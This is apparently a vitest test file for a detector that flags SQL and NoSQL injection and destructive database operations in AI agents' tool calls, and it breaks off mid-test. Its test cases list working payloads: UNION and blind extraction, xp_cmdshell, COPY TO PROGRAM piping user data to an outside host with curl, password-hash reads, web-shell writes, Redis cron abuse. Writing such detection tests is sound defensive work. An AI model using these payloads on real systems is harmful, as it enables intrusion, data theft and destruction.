import { beforeAll, describe, expect, it } from 'vitest';
import { categorize } from '../../src/classify/category.js';
import { classify, initClassifier } from '../../src/classify/classify.js';
import { detectSql, initSql } from '../../src/classify/detectors/sql.js';
import type { Signal } from '../../src/classify/types.js';
import { collectStrings } from '../../src/classify/walk.js';

beforeAll(async () => {
  await Promise.all([initSql(), initClassifier()]);
});

/** detect runs the SQL detector on one tool call, built the way classify() builds it. */
function detect(toolName: string, args: Record<string, unknown>): Signal[] {
  return detectSql({ toolName, category: categorize(toolName, Object.keys(args)), fields: collectStrings(args, '/arguments'), args, documents: [[args, '/arguments']] });
}

const query = (sql: string): Signal[] => detect('db_query', { sql, database: 'shop' });
const ids = (signals: Signal[], id: Signal['id']): Signal[] => signals.filter((s) => s.id === id);

describe('detectSql()', () => {
  describe('sql_injection', () => {
    // [what, sql, evidence starts with]
    const attacks: Array<[string, string, string]> = [
      ['flags a function in an untrusted language', "CREATE OR REPLACE FUNCTION sys(cmd text) RETURNS text AS $$import os; return os.popen(cmd).read()$$ LANGUAGE plpython3u", 'code execution on the database server (LANGUAGE plpython3u)'],
      ['flags a DO block in an untrusted language', "DO $$ import os; os.system('id') $$ LANGUAGE plpython3u", 'code execution on the database server'],
      ['flags a C function loaded from a file', "CREATE FUNCTION f() RETURNS int AS '/tmp/x.so', 'f' LANGUAGE C", 'code execution on the database server (LANGUAGE c)'],
      ['flags an untrusted language installed', 'CREATE EXTENSION IF NOT EXISTS plpython3u', 'untrusted language installed'],
      ['flags a MySQL UDF library', "CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so'", 'native library loaded'],
      ['flags a system file loaded into a table', "LOAD DATA INFILE '/etc/passwd' INTO TABLE t", 'system file read into a table'],
      ['flags a web shell written through SQLite ATTACH', "ATTACH DATABASE '/var/www/html/shell.php' AS pwn", 'file write (SQLite ATTACH)'],
      ['flags a tautology in a string context', "SELECT * FROM users WHERE name = 'bob' OR 'a'='a'", 'tautology: OR'],
      ['flags a numeric tautology', 'SELECT * FROM orders WHERE id = 7 OR 1=1', 'tautology: OR 1=1'],
      ['flags a self-comparison tautology', 'SELECT * FROM orders WHERE id = 7 OR id=id', 'tautology: OR id=id'],
      ['flags a double-quoted MySQL tautology', 'SELECT * FROM users WHERE name = "bob" OR "x"="x"', 'tautology'],
      ['flags a LIKE that matches everything', "SELECT * FROM users WHERE name = 'x' OR name LIKE '%'", 'tautology'],
      ['flags an AND probe after the first condition', 'SELECT * FROM items WHERE price > 10 AND 42=42', 'boolean probe: AND 42=42'],
      ['flags a character of a subquery compared with a constant', "SELECT * FROM items WHERE id = 3 AND (SELECT SUBSTRING(password,1,1) FROM users LIMIT 1)='a'", 'blind extraction'],
      ['flags a T-SQL blind extraction the grammar rejects', "SELECT * FROM items WHERE id = 3 AND (SELECT TOP 1 SUBSTRING(password,1,1) FROM users)='a'", 'blind extraction'],
      ['flags a T-SQL IIF probe', 'SELECT * FROM items WHERE id = 3 AND IIF(1=1,1,0)=1', 'boolean probe: IIF(1=1,1,0)'],
      ['flags a constant compared with a subquery cast to a number', 'SELECT * FROM products WHERE id = 1 AND 1=CAST((SELECT password FROM users LIMIT 1) AS int)', 'error-based cast'],
      ['flags UNION SELECT of NULLs appended to a filtered query', 'SELECT name FROM products WHERE id = 3 UNION SELECT NULL, NULL, NULL', 'UNION-based'],
      ['flags UNION SELECT reading the system catalog', "SELECT title FROM posts WHERE slug = 'x' UNION SELECT usename FROM pg_user", 'UNION-based'],
      ['flags UNION SELECT with system functions', 'SELECT title FROM posts WHERE id = 1 UNION SELECT version()', 'UNION-based'],
      ['flags a MySQL UNION with a comment', "SELECT a FROM t WHERE b = '1' UNION ALL SELECT @@version, user()#'", 'UNION-based'],
      ['flags a stacked DROP after a literal', 'SELECT * FROM users WHERE id = 5; DROP TABLE users', 'stacked statement: ; DROP TABLE users'],
      ['flags Bobby Tables', "INSERT INTO students (name) VALUES ('Robert'); DROP TABLE students;--')", 'stacked statement'],
      ['flags an MSSQL stacked exec', "SELECT * FROM t WHERE id = 1; EXEC xp_cmdshell 'whoami'", 'stacked statement'],
      ['flags comment truncation after a quote', "SELECT * FROM users WHERE name = 'admin'--' AND password = 'x'", 'comment truncation'],
      ['flags a MySQL # comment', "SELECT * FROM users WHERE name = 'admin'#' AND password = 'x'", ''],
      ['flags an unterminated block comment', "SELECT * FROM users WHERE name = 'admin' /* AND password = 'x'", 'comment truncation'],
      ['flags pg_sleep', "SELECT * FROM t WHERE id = 1 AND 1=(SELECT 1 FROM pg_sleep(5))", 'time-based: pg_sleep(5)'],
      ['flags MySQL sleep()', 'SELECT * FROM t WHERE id = 1 AND SLEEP(5)', 'time-based'],
      ['flags benchmark()', "SELECT * FROM t WHERE id = 1 AND BENCHMARK(5000000, MD5('a'))", 'time-based'],
      ['flags WAITFOR DELAY', "SELECT * FROM t WHERE id = 1; WAITFOR DELAY '0:0:5'--", ''],
      ['flags extractvalue()', "SELECT * FROM t WHERE id = 1 AND extractvalue(1, concat(0x7e, (SELECT user())))", 'error-based'],
      ['flags updatexml()', "SELECT * FROM t WHERE id = 1 AND updatexml(1, concat(0x7e, version()), 1)", 'error-based'],
      ['flags a CAST error trick', 'SELECT * FROM t WHERE id = 1 AND 1 = CAST(version() AS int)', 'error-based cast'],
      ['flags an MSSQL CONVERT error trick', 'SELECT * FROM t WHERE id = 1 AND 1 = CONVERT(INT, @@version)', ''],
      ['flags an unbalanced quote', "SELECT * FROM users WHERE name = 'O'Brien'", 'unbalanced quote'],
      ['flags ORDER BY past the last column', 'SELECT name FROM users WHERE id = 2 ORDER BY 7', 'column enumeration'],
      ['flags a quote breakout into a numeric context', "SELECT * FROM t WHERE id = 1 1' or '1'='1", ''],
      ['flags a system probe in a condition', "SELECT * FROM t WHERE id = 1 AND substring(version(), 1, 1) = 'P'", 'system probe'],
      // Reaching past the database to its host: a query has no business there, wherever it sits.
      ['flags COPY … TO PROGRAM', "COPY (SELECT * FROM users) TO PROGRAM 'curl -d @- http://203.0.113.9/'", 'command execution on the database server'],
      ['flags COPY … FROM PROGRAM', "COPY t FROM PROGRAM 'id'", 'command execution on the database server'],
      ['flags COPY to a server file', "COPY users TO '/tmp/users.csv'", 'file access on the database server'],
      ['flags a server file read', "SELECT pg_read_file('/etc/passwd')", 'file access on the database server'],
      ['flags a large-object export', "SELECT lo_export(16409, '/var/lib/postgresql/.ssh/authorized_keys')", 'file access on the database server'],
      ['flags MySQL LOAD_FILE', "SELECT LOAD_FILE('/etc/passwd')", 'file access on the database server'],
      ['flags a read of password hashes', 'SELECT usename, passwd FROM pg_shadow', 'password hashes read'],
      ['flags a read of MySQL password hashes', 'SELECT user, authentication_string FROM mysql.user', 'password hashes read'],
      ['flags password hashes read through dblink', "SELECT * FROM dblink('host=10.0.0.5 dbname=prod', 'SELECT usename, passwd FROM pg_shadow') AS t(u text, p text)", 'through dblink, password hashes read'],
      ['flags COPY … PROGRAM in SQL the grammar rejects', "COPY t FROM PROGRAM 'id' WITH (FORMAT csv) #", 'command execution on the database server'],
    ];
    it.each(attacks)('%s', (_what, sql, evidence) => {
      const found = ids(query(sql), 'sql_injection');
      expect(found, sql).toHaveLength(1);
      expect(found[0]!.path).toBe('/arguments/sql');
      expect(found[0]!.evidence.startsWith(evidence), found[0]!.evidence).toBe(true);
      expect(['high', 'critical']).toContain(found[0]!.severity);
      expect(found[0]!.evidence.length).toBeLessThanOrEqual(121);
    });

    it('rates time-based, UNION extraction and stacked destruction critical', () => {
      for (const sql of ['SELECT * FROM t WHERE id = 1 AND SLEEP(5)', 'SELECT a FROM t WHERE b = 1 UNION SELECT NULL', 'SELECT * FROM t WHERE id = 1; DROP TABLE t']) {
        expect(ids(query(sql), 'sql_injection')[0]?.severity, sql).toBe('critical');
      }
    });

    const wellFormed: Array<[string, string]> = [
      ['a quote inside a literal', "SELECT * FROM users WHERE name = 'O''Brien'"],
      ['-- inside a literal', "SELECT * FROM notes WHERE body = 'see -- below' AND id = 3"],
      ['a whole payload inside a literal', "SELECT * FROM comments WHERE text = 'x'' OR 1=1; DROP TABLE users; --'"],
      ['a subquery compared with a constant', 'SELECT * FROM orders o WHERE (SELECT count(*) FROM items i WHERE i.order_id = o.id) = 3'],
      ['a column compared with a cast subquery', 'SELECT * FROM products WHERE stock > CAST((SELECT avg(stock) FROM products) AS int)'],
      ['an IIF over a column', "SELECT name, IIF(total > 100, 'big', 'small') AS size FROM orders WHERE region = 'EU'"],
      ['a plain query run through dblink', "SELECT * FROM dblink('dbname=reporting', 'SELECT id, total FROM orders WHERE total > 100') AS t(id int, total numeric)"],
      ['the word union inside a literal', "SELECT * FROM unions WHERE name = 'union select null' OR name = 'labour union'"],
      ['a UNION of two well-formed selects', "SELECT pilot_name FROM pilots WHERE plane = 'Piper' UNION SELECT pilot_name FROM pilots WHERE age < 30"],
      ['UNION ALL of two tables', 'SELECT id, name FROM customers UNION ALL SELECT id, name FROM suppliers ORDER BY 2'],
      ['an OR between columns', 'SELECT * FROM flights WHERE src = dest OR src = via'],
      ['an OR between literal comparisons', "SELECT * FROM members WHERE age = 19 OR age = 20 OR city = 'Paris'"],
      ['a query builder WHERE 1=1', "SELECT * FROM users WHERE 1=1 AND status = 'active' AND age > 18"],
      ['an explanatory trailing comment', 'SELECT count(*) FROM users -- total users'],
      ['a leading comment', '-- active users per country\nSELECT country, count(*) FROM users GROUP BY country'],
      ['a sqlcommenter tag', "SELECT * FROM orders WHERE id = 42 /*controller='orders',action='show'*/"],
      ['a version check', 'SELECT version()'],
      ['an information_schema query', "SELECT column_name, data_type FROM information_schema.columns WHERE table_name = 'users'"],
      ['a pg_stat_activity query', "SELECT pid, query FROM pg_stat_activity WHERE state = 'active'"],
      ['current_user in a row filter', 'SELECT * FROM documents WHERE owner = current_user'],
      ['a positional ORDER BY', 'SELECT name, price FROM products ORDER BY 2 DESC'],
      ['a transaction script', "BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; UPDATE accounts SET balance = balance + 10 WHERE id = 2; COMMIT;"],
      ['several inserts', "INSERT INTO t (a) VALUES (1); INSERT INTO t (a) VALUES (2);"],
      ['JSON and text-search operators', "SELECT * FROM docs WHERE data->>'kind' = 'a' AND tsv @@ to_tsquery('cat') AND meta #>> '{a,b}' = 'x'"],
      ['a parameterised query', 'SELECT * FROM users WHERE email = $1 AND tenant_id = $2'],
      ['MySQL LIMIT and INTERVAL', "SELECT * FROM events WHERE created_at > DATE_SUB(NOW(), INTERVAL 7 DAY) AND kind = 'x' LIMIT 10, 20"],
      ['MySQL backticks', "SELECT `id`, `name` FROM `users` WHERE `status` = 'on' -- recent"],
      ['T-SQL TOP, brackets and a temp table', "SELECT TOP 10 [Name] INTO #recent FROM [dbo].[Users] WHERE [Status] = N'on'"],
      ['MySQL SELECT DATABASE()', 'SELECT DATABASE()'],
      ['a hashtag in a literal', "SELECT * FROM posts WHERE tag = '#sql' ORDER BY created_at"],
      ['a LIKE search', "SELECT * FROM users WHERE name LIKE '%smith%' OR email LIKE '%smith%'"],
      ['BETWEEN', 'SELECT title FROM paintings WHERE year BETWEEN 1900 AND 1950'],
      ['a bulk load from the client', "COPY orders (id, total) FROM STDIN WITH (FORMAT csv)"],
      ['an export to the client', 'COPY (SELECT id, total FROM orders) TO STDOUT WITH CSV HEADER'],
      ['a column named like a password table', "SELECT shadow_price FROM user_settings WHERE program = 'to'"],
      ['a function in SQL', 'CREATE FUNCTION add(a int, b int) RETURNS int AS $$ SELECT a + b $$ LANGUAGE sql'],
      ['a plpgsql trigger function', 'CREATE OR REPLACE FUNCTION touch() RETURNS trigger AS $$ BEGIN NEW.updated_at = now(); RETURN NEW; END $$ LANGUAGE plpgsql'],
      ['an ordinary extension', 'CREATE EXTENSION IF NOT EXISTS pg_trgm'],
      ['a CSV bulk load', "LOAD DATA INFILE 'data.csv' INTO TABLE imports FIELDS TERMINATED BY ','"],
      ['an SQLite archive attached', "ATTACH DATABASE 'archive.db' AS archive"],
    ];
    it.each(wellFormed)('does not flag %s', (_what, sql) => {
      expect(ids(query(sql), 'sql_injection'), sql).toEqual([]);
    });

    it('does not read LIKE patterns as percent-encoded paths', () => {
      const sql = "SELECT * FROM t WHERE a LIKE '%user%' OR b LIKE '%union%' ORDER BY a";
      expect(classify('db_query', { sql }).signals).toEqual([]);
    });
  });

  describe('destructive_operation', () => {
    const destructive: Array<[string, string, string, Signal['severity']]> = [
      ['flags DROP TABLE', 'DROP TABLE users', 'DROP TABLE', 'high'],
      ['flags DROP DATABASE as critical', 'DROP DATABASE prod', 'DROP DATABASE', 'critical'],
      ['flags DROP SCHEMA', 'DROP SCHEMA analytics', 'DROP SCHEMA', 'high'],
      ['flags DROP INDEX', 'DROP INDEX CONCURRENTLY idx_users_email', 'DROP INDEX', 'high'],
      ['flags TRUNCATE as critical', 'TRUNCATE TABLE audit_log RESTART IDENTITY', 'TRUNCATE', 'critical'],
      ['flags ALTER TABLE … DROP COLUMN', 'ALTER TABLE users DROP COLUMN phone', 'ALTER TABLE … DROP', 'high'],
      ['flags ALTER TABLE … DROP CONSTRAINT', 'ALTER TABLE orders DROP CONSTRAINT orders_user_fk', 'ALTER TABLE … DROP', 'high'],
      ['flags DELETE without WHERE', 'DELETE FROM sessions', 'DELETE without WHERE', 'high'],
      ['flags UPDATE without WHERE', "UPDATE users SET role = 'admin'", 'UPDATE without WHERE', 'high'],
      ['flags DELETE with an always-true WHERE', 'DELETE FROM sessions WHERE 1=1', 'DELETE with an always-true WHERE', 'high'],
      ['flags a DELETE hidden in a CTE', 'WITH gone AS (DELETE FROM carts RETURNING id) SELECT count(*) FROM gone', 'DELETE without WHERE', 'high'],
      ['flags a dialect DROP the grammar rejects', 'DROP TABLE a.b PURGE', 'DROP TABLE', 'high'],
      ['flags a multi-table UPDATE without WHERE', 'UPDATE a, b SET a.x = 1, b.y = 2', 'UPDATE without WHERE', 'high'],
      ['flags a superuser created', "CREATE USER hacker WITH SUPERUSER PASSWORD 'x'", 'role granted SUPERUSER', 'high'],
      ['flags a DROP run through dblink_exec', "SELECT dblink_exec('host=10.0.0.5 dbname=prod', 'DROP TABLE users')", 'through dblink, DROP TABLE', 'high'],
      ['flags row security bypassed', 'ALTER ROLE app BYPASSRLS', 'role granted BYPASSRLS', 'high'],
      ['flags a server-program role granted', 'GRANT pg_execute_server_program TO app', 'GRANT pg_execute_server_program', 'high'],
      ['flags every right granted to everyone', 'GRANT ALL ON DATABASE prod TO PUBLIC', 'GRANT ALL ON DATABASE TO PUBLIC', 'high'],
      ["flags MySQL's GRANT ALL ON *.*", "GRANT ALL PRIVILEGES ON *.* TO 'x'@'%' WITH GRANT OPTION", 'GRANT ALL ON *.*', 'high'],
      ['flags a superuser created in MySQL-style syntax', "CREATE USER 'x'@'%' SUPERUSER IDENTIFIED BY 'y'", 'role granted SUPERUSER', 'high'],
    ];
    it.each(destructive)('%s', (_what, sql, evidence, severity) => {
      const found = ids(detect('db_query', { sql }), 'destructive_operation');
      expect(found, sql).toHaveLength(1);
      expect(found[0]!.evidence.startsWith(evidence), found[0]!.evidence).toBe(true);
      expect(found[0]!.severity).toBe(severity);
      expect(found[0]!.path).toBe('/arguments/sql');
    });

    const safe: Array<[string, string]> = [
      ['DELETE with WHERE', "DELETE FROM sessions WHERE expires_at < now() - interval '1 day'"],
      ['UPDATE with WHERE', 'UPDATE users SET last_login = now() WHERE id = 5'],
      ['SELECT', 'SELECT * FROM users'],
      ['INSERT', "INSERT INTO users (name) VALUES ('a')"],
      ['CREATE TABLE', 'CREATE TABLE t (id int PRIMARY KEY)'],
      ['ALTER TABLE … ADD', 'ALTER TABLE users ADD COLUMN phone text'],
      ['GRANT', 'GRANT SELECT ON users TO analyst'],
      ['GRANT ALL on one table to one role', 'GRANT ALL PRIVILEGES ON TABLE forecasts TO finance'],
      ['GRANT ALL on one MySQL database', "GRANT ALL ON mydb.* TO 'user'@'host'"],
      ['a login role created', 'CREATE ROLE app LOGIN'],
      ['a password changed', "ALTER USER app WITH PASSWORD 'x'"],
      ['an ordinary role granted', 'GRANT reporting TO ana'],
      ['a DELETE inside a literal', "SELECT * FROM audit WHERE statement = 'DELETE FROM users'"],
    ];
    it.each(safe)('does not flag %s', (_what, sql) => {
      expect(ids(detect('db_query', { sql }), 'destructive_operation'), sql).toEqual([]);
    });
  });

  describe('which strings it reads', () => {
    it('reads a field named sql in any tool', () => {
      const found = detect('run', { sql: 'DROP TABLE users' });
      expect(found.map((s) => s.id)).toEqual(['destructive_operation']);
    });

    it('reads SQL in a field of another tool when it clearly is SQL', () => {
      const found = detect('post_message', { channel: 'ops', text: 'SELECT * FROM users WHERE id = 1 OR 1=1' });
      expect(found.map((s) => [s.id, s.path])).toEqual([['sql_injection', '/arguments/text']]);
    });

    it('does not read prose that starts with an SQL keyword', () => {
      const prose = [
        "Update the docs: the user's guide is out of date, or so they say",
        "Select the best plan for O'Brien and drop the rest",
        "Delete my account; I don't want it",
        'Create a ticket for the union negotiation',
      ];
      for (const text of prose) expect(detect('post_message', { channel: 'x', text }), text).toEqual([]);
    });

    it("does not read a database tool's plain-words question as SQL", () => {
      expect(detect('query_database', { query: "How many orders did O'Brien place?" })).toEqual([]);
    });

    it("places a database tool's filter where it lands in the query", () => {
      const found = detect('db_find', { table: 'users', where: "name = 'x' OR 1=1" });
      expect(found.map((s) => [s.id, s.path])).toEqual([['sql_injection', '/arguments/where']]);
    });

    it("places a database tool's value inside a quoted literal", () => {
      const found = detect('db_lookup', { table: 'users', name: "x'; DROP TABLE users; --" });
      expect(found.map((s) => s.id).sort()).toEqual(['destructive_operation', 'sql_injection']);
      expect(detect('db_lookup', { table: 'users', name: "O'Brien" })).toEqual([]);
    });

    it('never throws on malformed input', () => {
      const junk = ["'", '"', '/*', '$$', "E'\\", '\u0000', "1é'😀--", "';\"`#", 'SELECT', ')))((( OR', "x'='x'='x"];
      for (const sql of junk) expect(() => query(sql), JSON.stringify(sql)).not.toThrow();
    });

    it('keeps string literals of a destructive statement out of its evidence', () => {
      const [found] = ids(detect('db_query', { sql: "UPDATE users SET password = 'hunter2'" }), 'destructive_operation');
      expect(found?.evidence).toBe('UPDATE without WHERE: UPDATE users SET password = …');
    });

    it('answers the same SQL from its cache', () => {
      const sql = 'SELECT * FROM t WHERE id = 1 OR 2=2';
      expect(query(sql)).toEqual(query(sql));
    });
  });
});

describe('document-database operators', () => {
  it('reports $where and operators on credential fields, in objects and in JSON text', () => {
    expect(detect('mongo_find', { collection: 'users', filter: { $where: 'sleep(5000)' } })).toEqual([
      expect.objectContaining({ id: 'sql_injection', severity: 'high', path: '/arguments/filter/$where', evidence: 'NoSQL $where runs JavaScript on the server: sleep(5000)' }),
    ]);
    expect(detect('mongo_find', { collection: 'users', filter: { username: 'admin', password: { $ne: '' } } })).toEqual([
      expect.objectContaining({ id: 'sql_injection', path: '/arguments/filter/password/$ne', evidence: expect.stringContaining('credential field') }),
    ]);
    expect(classify('mongo_find', { collection: 'users', filter: '{"$where": "this.password.length > 0"}' }).signals.map((s) => `${s.id} ${s.path}`)).toEqual(['sql_injection /arguments/filter']);
  });

  it('leaves ordinary operators alone, and operators in tools that carry text', () => {
    expect(detect('mongo_find', { collection: 'users', filter: { age: { $gt: '30' }, status: { $in: 'a' } } })).toEqual([]);
    expect(detect('write_file', { path: 'notes.md', filter: { $where: 'a' } })).toEqual([]);
  });
});

describe('datastores that are not SQL', () => {
  const found = (tool: string, args: Record<string, unknown>): string[] => classify(tool, args).signals.map((s) => `${s.id} ${s.severity} ${s.path}`);
  it.each([
    ['Redis FLUSHALL', 'redis_command', { command: 'FLUSHALL' }, 'destructive_operation critical /arguments/command'],
    ['Redis FLUSHDB in an argv', 'redis_command', { command: ['flushdb'] }, 'destructive_operation high /arguments/command/0'],
    ['Redis pointed at cron', 'redis_command', { command: 'CONFIG SET dir /var/spool/cron/crontabs' }, 'command_injection high /arguments/command'],
    ['Redis made a replica of another host', 'redis_command', { command: 'SLAVEOF 203.0.113.5 6379' }, 'command_injection high /arguments/command'],
    ['Cypher deleting every node of a label', 'neo4j_query', { query: 'MATCH (n:Customer) DETACH DELETE n' }, 'destructive_operation high /arguments/query'],
    ['mongosh deleteMany({})', 'mongo_query', { command: 'db.users.deleteMany({})' }, 'destructive_operation high /arguments/command'],
    ['mongosh dropDatabase()', 'mongo_query', { command: 'db.getSiblingDB("prod").dropDatabase()' }, 'destructive_operation critical /arguments/command'],
    ['a driver deleteMany with an empty filter', 'mongodb', { collection: 'users', operation: 'deleteMany', filter: {} }, 'destructive_operation high /arguments/operation'],
    ['a driver deleteMany with no filter', 'mongodb', { collection: 'users', operation: 'deleteMany' }, 'destructive_operation high /arguments/operation'],
    ['a delete-many tool with an empty filter', 'mongo_delete_many', { collection: 'users', filter: {} }, 'destructive_operation high /arguments'],
    ['a collection dropped', 'mongodb', { collection: 'users', operation: 'drop' }, 'destructive_operation high /arguments/operation'],
    ['a runCommand document dropping the database', 'mongo_command', { command: { dropDatabase: 1 } }, 'destructive_operation critical /arguments/command'],
    ['a runCommand document dropping a collection', 'mongo_command', { command: { drop: 'users' } }, 'destructive_operation high /arguments/command'],
  ])('flags %s', (_what, tool, args, expected) => {
    expect(found(tool, args as Record<string, unknown>)).toContain(expected);
  });

  it.each([
    ['Redis reads and writes', 'redis_command', { command: 'SET user:1:name "Ana" EX 3600' }],
    ['Redis CONFIG GET', 'redis_command', { command: 'CONFIG GET dir' }],
    ['Redis replication stopped', 'redis_command', { command: 'REPLICAOF NO ONE' }],
    ['Cypher deleting one node', 'neo4j_query', { cypher: 'MATCH (n:User) WHERE n.id = $id DETACH DELETE n' }],
    ['Cypher reading', 'neo4j_query', { query: 'MATCH (n) RETURN n LIMIT 10' }],
    ['mongosh find({})', 'mongo_query', { command: 'db.users.find({})' }],
    ['a driver deleteMany with a filter of numbers', 'mongodb', { collection: 'users', operation: 'deleteMany', filter: { age: { $gt: 120 } } }],
    ['a driver delete with a filter', 'mongodb', { collection: 'sessions', operation: 'delete', filter: { expires: { $lt: 1700000000 } } }],
    ['a find with an empty filter', 'mongodb', { collection: 'users', operation: 'find', filter: {} }],
    ['a runCommand document that reads', 'mongo_command', { command: { find: 'users', filter: {} } }],
  ])('leaves %s alone', (_what, tool, args) => {
    expect(found(tool, args as Record<string, unknown>)).toEqual([]);
  });
});

describe('filters of tools that are not database tools', () => {
  it('reports an injection in a filter that is well-formed SQL', () => {
    expect(classify('list_users', { where: 'id = 1 OR 1=1' }).signals).toEqual([expect.objectContaining({ id: 'sql_injection', path: '/arguments/where' })]);
    expect(classify('search_customers', { filter: "name = 'a' OR 'x'='x'" }).signals).toEqual([expect.objectContaining({ id: 'sql_injection', path: '/arguments/filter' })]);
  });

  it('reads the ids and names a tool looks records up by as values placed in a query', () => {
    for (const order_id of ['1 OR 1=1', "1' OR '1'='1", '1; DROP TABLE orders--', '1 UNION SELECT password FROM users']) {
      expect(classify('get_order', { order_id }).signals.map((s) => s.id), order_id).toContain('sql_injection');
    }
    expect(classify('db_lookup', { id: "1' AND SLEEP(5)#" }).signals.map((s) => s.id)).toContain('sql_injection');
    for (const value of ['ORD-2024-0042', "O'Brien", 'a--b']) expect(classify('get_customer', { customer_id: value, last_name: value }).signals, value).toEqual([]);
  });

  it('reads references, charges and search boxes the same way; a comment alone in a search box is punctuation', () => {
    expect(classify('search_orders', { customer_ref: "C-1029' AND SLEEP(5)-- -" }).signals).toEqual([expect.objectContaining({ id: 'sql_injection', path: '/arguments/customer_ref' })]);
    expect(classify('stripe.create_refund', { charge: "ch_3PQx9' OR '1'='1" }).signals).toEqual([expect.objectContaining({ id: 'sql_injection' })]);
    expect(classify('search_products', { q: "shoes' UNION SELECT null, table_name, null FROM information_schema.tables--" }).signals).toEqual([expect.objectContaining({ id: 'sql_injection', severity: 'critical' })]);
    for (const q of ["O'Reilly books -- second hand", "Joe's café; best -- ever", 'rock and roll t-shirts']) expect(classify('search_products', { q }).signals, q).toEqual([]);
  });

  it('leaves other filter syntaxes and ordinary conditions alone', () => {
    for (const filter of ['label:bug is:open', 'price > 10 OR price < 5', "status = 'open' AND assignee = 'me'", "name eq 'O''Brien'"]) {
      expect(classify('list_tickets', { filter }).signals, filter).toEqual([]);
    }
  });
});

describe("SQL built to exhaust PostgreSQL's scanner", () => {
  // Each once took from seconds to minutes of event loop inside the parser (WASM), within the budget.
  it.each([
    ['comments nested 100,000 deep', `SELECT 1 ${'/*'.repeat(100_000)}`, 'comment nesting'],
    ['comments nested 32 deep, 2,000 times', `SELECT 1 ${`${'/*'.repeat(32)}${'*/'.repeat(32)}`.repeat(2_000)}`, 'operator runs too costly to parse'],
    ['a run of 200,000 plus signs', `SELECT 1 ${'+'.repeat(200_000)} 2`, 'operator runs too costly to parse'],
    ['60,000 empty comments in a row', `SELECT 1 ${'/**/'.repeat(60_000)}`, 'operator runs too costly to parse'],
  ])('refuses %s at once', (_what, sql, evidence) => {
    const started = performance.now();
    const found = ids(query(sql), 'sql_injection');
    expect(performance.now() - started).toBeLessThan(1_000);
    expect(found[0]?.evidence.startsWith(evidence), found[0]?.evidence).toBe(true);
  });

  it('reports an expression chained too deep for the tree walk instead of throwing', () => {
    const command = "'+ignore ".repeat(11_112);
    expect(() => detect('redis_command', { command })).not.toThrow();
    expect(ids(detect('redis_command', { command }), 'sql_injection')[0]?.evidence).toMatch(/^expression nested too deep to analyse/);
  });

  it('reads 250 KB of blanks in a statement field in linear time', () => {
    const started = performance.now();
    expect(detect('redis_command', { command: ' '.repeat(250_000) })).toEqual([]);
    expect(detect('db_query', { statement: '\n'.repeat(250_000) })).toEqual([]);
    // `^\s*\(?\s*` backtracked over every split of the blanks: 72 s.
    expect(performance.now() - started).toBeLessThan(1_000);
  });

  it('parses banner comments, operators and long literals as before', () => {
    const header = `/${'*'.repeat(120)}\n* Procedure: refresh_totals\n${'*'.repeat(120)}/\nSELECT data->>'a', data#>>'{b,c}' FROM t WHERE x <> 1 AND tags @> ARRAY['a'] AND v ~* 'x'`;
    expect(query(header)).toEqual([]);
    expect(query(`INSERT INTO notes (body) VALUES ('${'-'.repeat(100_000)}')`)).toEqual([]);
  });
});

describe("a call's parse budget", () => {
  it('reports SQL padded past it instead of letting it through unread', () => {
    // 256 KB of SQL per call is parsed (~0.4 µs a character); a statement padded past that was once not read at all.
    const padded = `DROP TABLE users; -- ${'x'.repeat(262_200)}`;
    const started = performance.now();
    const [found] = ids(query(padded), 'sql_injection');
    expect(performance.now() - started).toBeLessThan(100);
    expect(found?.severity).toBe('high');
    expect(found?.evidence).toMatch(/^262221 characters of SQL, beyond the 262144 a call may have analysed: DROP TABLE users; --/);
  });

  it('is spent across the strings of one call and opened again for the next call', () => {
    const big = `SELECT id FROM orders WHERE note = '${'n'.repeat(150_000)}'`;
    const other = `SELECT id FROM orders WHERE note = '${'m'.repeat(150_000)}'`;
    const found = detect('db_query', { first: { sql: big }, second: { sql: other } });
    // The first string is read within the budget and clean; the second no longer fits.
    expect(found.map((s) => [s.id, s.path])).toEqual([['sql_injection', '/arguments/second/sql']]);
    // A call of its own has the whole budget again: the same string is read and found clean.
    expect(query(other)).toEqual([]);
  });

  it("counts a database tool's values, placed in a query, against it", () => {
    const value = `x'; DROP TABLE users; --${' '.repeat(270_000)}`;
    expect(ids(detect('db_lookup', { table: 'users', name: value }), 'sql_injection')[0]?.evidence).toMatch(/beyond the 262144 a call may have analysed/);
  });
});

describe('parameters of a URL or a form body (an agent probing a web application)', () => {
  it.each([
    ['a UNION in a query parameter, URL-encoded', 'https://shop.example.com/item?id=1%20UNION%20SELECT%20username,password%20FROM%20users--'],
    ['a quoted tautology', "https://shop.example.com/item?id=1'%20OR%20'1'='1"],
    ['a time delay with + for blanks', 'https://shop.example.com/item?id=1+AND+SLEEP(5)'],
    ['a comment-truncated search', "https://shop.example.com/search?q=' OR 1=1--"],
    ['a stacked statement', 'https://shop.example.com/item?id=1;DROP TABLE users--'],
  ])('flags %s', (_what, url) => {
    const found = ids(detect('http_request', { method: 'GET', url }), 'sql_injection')[0];
    expect(found, url).toMatchObject({ path: '/arguments/url', evidence: expect.stringMatching(/^in parameter (id|q): /) });
  });

  it('reads a form-encoded body', () => {
    expect(ids(detect('http_request', { method: 'POST', url: 'https://app.example.com/login', body: "username=admin'--&password=x" }), 'sql_injection')[0]?.path).toBe('/arguments/body');
  });

  it.each([
    'https://api.github.com/search/issues?q=repo:nodejs/node+is:open+label:bug&sort=created&order=desc',
    'https://www.google.com/search?q=how+to+select+from+two+tables+in+sql+union',
    "https://api.example.com/search?q=O'Reilly",
    'https://api.example.com/search?q=drop+shipping+or+wholesale',
    "https://jira.example.com/rest/api/2/search?jql=project=OPS AND status='In Progress' ORDER BY created DESC",
    'https://api.example.com/q?sql=SELECT+name+FROM+users+LIMIT+10',
    "https://api.example.com/users?email=o'brien@example.com",
  ])('leaves %s alone', (url) => {
    expect(ids(detect('http_request', { method: 'GET', url }), 'sql_injection'), url).toEqual([]);
  });

  it('leaves an ordinary form body alone', () => {
    expect(ids(detect('http_request', { method: 'POST', url: 'https://api.example.com/search', body: 'q=union+station&city=chicago' }), 'sql_injection')).toEqual([]);
  });
});

describe('document-database operators outside database tools', () => {
  it('flags an operator object on a login’s credentials, whatever its operand', () => {
    expect(detect('login', { username: { $ne: null }, password: { $ne: null } }).map((s) => s.path).sort()).toEqual(['/arguments/password/$ne', '/arguments/username/$ne']);
    expect(detect('get_user', { email: { $regex: '.*' } })[0]?.evidence).toBe('NoSQL operator where one value belongs (matches every record): email $regex ".*"');
    expect(detect('login', { username: 'admin', password: { $gt: '' } })).toEqual([
